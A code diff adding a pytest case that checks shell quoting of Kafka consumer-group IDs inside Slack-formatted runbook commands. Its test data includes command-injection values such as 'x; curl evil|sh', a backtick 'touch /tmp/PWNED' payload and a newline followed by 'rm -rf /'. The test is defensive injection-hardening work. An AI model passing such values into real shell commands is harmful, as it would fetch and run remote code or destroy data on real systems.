@@ -202,3 +202,17 @@ def test_plain_names_still_read_as_written_in_commands():
     # A command inside the Slack text is quoted the same way.
     evil = plan_for_finding(finding("slow_consumer", group_id=EVIL_GROUP), RUNBOOKS_DIR)
     assert "--group 'x; curl evil|sh'`" in "\n".join(evil["next_steps"])
+
+
+@pytest.mark.parametrize("group_id", ["`;touch /tmp/PWNED;`", "a`b'c", "x\n; rm -rf /"])
+def test_a_command_in_slack_text_stays_one_word_whatever_the_group_holds(group_id):
+    """Backticks and line breaks are made code-safe before quoting: the Slack finalizer's
+    backtick -> quote rewrite must not reopen the shell quoting."""
+    import shlex
+
+    plan = plan_for_finding(finding("slow_consumer", group_id=group_id), RUNBOOKS_DIR)
+    (step,) = [s for s in plan["next_steps"] if "kafka-consumer-groups.sh" in s]
+    command = step[step.index("`") + 1:step.rindex("`")]
+    words = shlex.split(command)
+    assert words[words.index("--group") + 1] == " ".join(group_id.replace("`", "'").split())
+    assert "touch" not in words and "rm" not in words
